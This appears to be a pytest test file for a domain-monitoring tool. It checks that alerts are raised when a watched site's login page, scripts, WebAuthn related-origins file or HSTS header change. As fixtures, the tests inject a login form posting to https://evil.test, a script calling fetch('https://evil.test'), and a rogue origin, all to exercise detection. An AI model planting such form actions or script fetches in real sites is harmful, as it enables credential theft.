"""content, wellknown and hsts: what the domain serves, fetched from the addresses the watched
resolvers give, with SNI and Host set to the domain."""

import base64
import hashlib
import json
from typing import Any

import pytest

from domains.models import Alert, WatchedDomain
from tests.domains.conftest import open_alerts, raised_once_then_closed
from tests.domains.world import World

pytestmark = pytest.mark.django_db


def _serve(world: World, path: str, body: bytes, headers: dict[str, str] | None = None) -> None:
    for site in world.sites.values():
        status, old_headers, _ = site.pages[path]
        site.pages[path] = (status, headers if headers is not None else old_headers, body)


def test_a_changed_login_page_is_critical(
    world: World, baselined: WatchedDomain, watch: Any
) -> None:
    original = world.sites["127.0.0.1"].pages["/login"][2]
    alert = raised_once_then_closed(
        watch=watch,
        signal="content",
        kind="content_changed",
        change=lambda: _serve(world, "/login", original + b"<form action=https://evil.test>"),
        revert=lambda: _serve(world, "/login", original),
    )
    assert list(alert.value) == ["/login"]


def test_a_changed_same_origin_script_is_critical(
    world: World, baselined: WatchedDomain, watch: Any
) -> None:
    alert = raised_once_then_closed(
        watch=watch,
        signal="content",
        kind="content_changed",
        change=lambda: _serve(world, "/static/login.js", b"fetch('https://evil.test')"),
        revert=lambda: _serve(world, "/static/login.js", b"console.log('ok')"),
    )
    assert list(alert.value) == ["/static/login.js"]
    assert "/static/login.js" in alert.summary


def test_an_asset_that_does_not_match_its_sri_hash_is_a_change_without_a_baseline(
    world: World, watch: Any
) -> None:
    good = b"console.log('ok')"
    integrity = "sha384-" + base64.b64encode(hashlib.sha384(good).digest()).decode()
    page = f'<script src="/static/login.js" integrity="{integrity}"></script>'.encode()
    _serve(world, "/login", page)
    watch(["content"])
    assert open_alerts() == []

    _serve(world, "/static/login.js", b"steal()")
    watch(["content"])
    alert = Alert.objects.get(kind="content_changed")
    assert list(alert.value) == ["/static/login.js"]


def test_a_new_related_origin_is_critical(
    world: World, baselined: WatchedDomain, watch: Any
) -> None:
    approved = world.sites["127.0.0.1"].pages["/.well-known/webauthn"][2]
    rogue = json.dumps({"origins": ["https://example.test", "https://evil.test"]}).encode()
    alert = raised_once_then_closed(
        watch=watch,
        signal="wellknown",
        kind="related_origins_changed",
        change=lambda: _serve(world, "/.well-known/webauthn", rogue),
        revert=lambda: _serve(world, "/.well-known/webauthn", approved),
    )
    assert alert.value == {"value": ["https://evil.test", "https://example.test"]}


def test_a_missing_hsts_header_is_high(world: World, baselined: WatchedDomain, watch: Any) -> None:
    body = world.sites["127.0.0.1"].pages["/"][2]
    raised_once_then_closed(
        watch=watch,
        signal="hsts",
        kind="hsts_missing",
        change=lambda: _serve(world, "/", body, {"Content-Type": "text/html"}),
        revert=lambda: _serve(world, "/", body, {"Strict-Transport-Security": "max-age=31536000"}),
        severity="high",
    )


def test_hsts_with_max_age_zero_is_missing(world: World, watch: Any) -> None:
    body = world.sites["127.0.0.1"].pages["/"][2]
    _serve(world, "/", body, {"Strict-Transport-Security": "max-age=0"})
    watch(["hsts"])
    assert Alert.objects.get().kind == "hsts_missing"


def test_one_address_serving_something_else_is_seen(
    world: World, baselined: WatchedDomain, watch: Any
) -> None:
    """Both addresses are fetched: a second address (say, a hijacked load balancer) that serves
    another login page is a content change even while the first is fine."""
    world.zone.records["A"] = (300, ["127.0.0.1", "127.0.0.2"])
    site = world.sites["127.0.0.2"]
    status, headers, body = site.pages["/login"]
    site.pages["/login"] = (status, headers, body + b"<!-- phish -->")

    watch(["content"])

    assert [a.kind for a in open_alerts()] == ["content_changed"]
